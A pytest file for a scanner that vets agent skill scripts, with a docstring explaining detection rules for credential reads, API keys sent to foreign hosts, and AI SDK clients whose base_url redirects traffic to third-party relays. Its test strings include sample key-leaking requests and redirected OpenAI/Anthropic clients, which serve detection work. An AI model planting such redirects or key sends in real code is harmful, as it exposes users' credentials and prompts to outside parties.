"""Routes round 9 left open, closed as classes (issue 22, round 10).

* A script's messages no longer hide its flows. The strings a Python script only says (logged,
  raised, asserted) are emptied for the pattern rules with their quotes kept, so the script still
  parses and its program analysis reads what it does: one ``log.info("sending %s", x)`` had made
  a script that posts ``~/.aws/credentials`` unreadable, and it reached review only.
* Reading those scripts must not block an honest vendor CLI: the user's key sent to the vendor's
  own API, asked for with ``getpass``, beside a public-IP lookup the API needs. A prepared
  ``urllib.request.Request(url, …)`` keeps its URL's host (and is a send when it has a body); a
  key the user types is a credential for its service, not a credential store read; a named
  credential sent to the host of the vendor the skill is about is that vendor's own; and a send
  to that host is the skill's purpose, not a sink that correlations pair with a read or a
  capture elsewhere in the script. The same key to any other host is still theft.
* A client's base URL is where its calls go. An AI SDK's client given another party's
  ``base_url`` (``OpenAI(base_url=…)``, ``new Anthropic({ baseURL: … })``) with the user's key
  for the service — none given, so the SDK reads ``OPENAI_API_KEY`` itself, or that variable
  named — sends every prompt, answer and the key there: ``program.api-traffic-redirect``, as
  ``OPENAI_BASE_URL`` set to that host is (a person decides; kept from the user, it is blocked).
  A client of another service with that service's own key (OpenRouter) is what the user chose.
  ``httpx.Client(base_url=…)`` makes that host the sink of ``client.post("/path", …)``: the
  vendor's key to the vendor's API is its own, to any other host a leak.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from grading.programs import python as python_programs
from grading.programs import routing
from grading.programs.facts import NETWORK_SEND, SECRET_FLOW, SECRET_READ
from grading.tier1 import scanner
from tests.unit.grading.bundles import BLOCKED, decide, read, rule_ids, skills

MALICIOUS = skills("open10", "malicious")
HONEST = skills("open10", "honest")
DUAL_USE = skills("open10", "dual-use")


@pytest.mark.parametrize("folder", MALICIOUS, ids=lambda p: p.name)
def test_a_read_or_a_key_sent_to_another_party_is_blocked(folder: Path) -> None:
    found = decide(read(folder))
    assert found.outcome in BLOCKED, found


@pytest.mark.parametrize("folder", HONEST, ids=lambda p: p.name)
def test_an_honest_twin_is_auto_approved(folder: Path) -> None:
    found = decide(read(folder))
    assert found.outcome == "auto_approve", found


@pytest.mark.parametrize("folder", DUAL_USE, ids=lambda p: p.name)
def test_an_ai_client_pointed_elsewhere_reaches_a_person(folder: Path) -> None:
    found = decide(read(folder))
    assert found.outcome == "review", found
    assert "program.api-traffic-redirect" in rule_ids(folder)


def test_a_logged_message_leaves_the_script_readable() -> None:
    text = 'log.info("sending %s", "now")\nraise SystemExit("""multi\nline""")\n'
    emptied = scanner._emptied_strings(text, python_programs.message_spans(text))
    assert emptied == 'log.info("          ", "   ")\nraise SystemExit("""     \n    """)\n'
    compile(emptied, "emptied", "exec")


def test_a_prepared_request_keeps_its_host_and_its_body_sends() -> None:
    text = (
        "import os, urllib.request\n"
        "key = os.environ.get('VENDOR_API_KEY')\n"
        "req = urllib.request.Request(f'https://api.vendor.example/v1?key={key}')\n"
        "urllib.request.urlopen(req)\n"
        "beacon = urllib.request.Request('https://t.counter.example/hit', data=b'x')\n"
        "urllib.request.urlopen(beacon)\n"
    )
    found = [(f.kind, f.hosts) for f in python_programs.analyse(text)]
    assert (SECRET_FLOW, ("api.vendor.example",)) in found
    assert (NETWORK_SEND, ("t.counter.example",)) in found


def test_one_send_site_names_every_host_it_is_reached_with() -> None:
    text = (
        "import os, urllib.request\n"
        "def fetch(url):\n"
        "    return urllib.request.urlopen(urllib.request.Request(url)).read()\n"
        "key = os.environ.get('VENDOR_API_KEY')\n"
        "fetch(f'https://api.vendor.example/v1?key={key}')\n"
        "fetch(f'https://keys.other.example/k?key={key}')\n"
    )
    flows = [f.hosts for f in python_programs.analyse(text) if f.kind == SECRET_FLOW]
    assert flows == [("api.vendor.example", "keys.other.example")]


def test_a_typed_password_is_no_store_read() -> None:
    text = "import getpass\npassword = getpass.getpass('Password: ')\nprint(len(password))\n"
    assert SECRET_READ not in {f.kind for f in python_programs.analyse(text)}


def test_the_vendor_key_to_the_vendor_is_no_correlation() -> None:
    found = rule_ids(HONEST[[p.name for p in HONEST].index("zonedesk-dns")])
    assert not {r for r in found if r.startswith("correlation.")}


@pytest.mark.parametrize(
    "code",
    [
        'client = OpenAI(base_url="https://api.llm-relay.net/v1")',
        'c = AsyncOpenAI(\n  api_key=os.environ["OPENAI_API_KEY"],\n  base_url="https://gw.relay.io/v1",\n)',
        'const c = new Anthropic({ baseURL: "https://claude.relay-cache.io" });',
    ],
)
def test_an_ai_client_with_the_users_key_elsewhere_is_a_redirect(code: str) -> None:
    assert [r.host for r in routing.redirects(code)]


@pytest.mark.parametrize(
    "code",
    [
        'c = OpenAI(base_url="https://openrouter.ai/api/v1", api_key=os.environ["OPENROUTER_KEY"])',
        'c = OpenAI(base_url="http://localhost:11434/v1")',
        'c = Anthropic(base_url="https://api.anthropic.com")',
        'c = OpenAI(base_url=os.environ["CUSTOM_BASE_URL"])',
    ],
)
def test_an_ai_client_of_the_users_choice_is_no_redirect(code: str) -> None:
    assert not list(routing.redirects(code))


def test_a_clients_base_url_is_the_host_of_its_calls() -> None:
    text = (
        "import os, httpx\n"
        "key = os.environ.get('ACME_API_KEY')\n"
        "with httpx.Client(base_url='https://api.acme.example/v2') as client:\n"
        "    client.post('/notes', json={'token': key})\n"
    )
    flows = [f.hosts for f in python_programs.analyse(text) if f.kind == SECRET_FLOW]
    assert flows == [("api.acme.example",)]
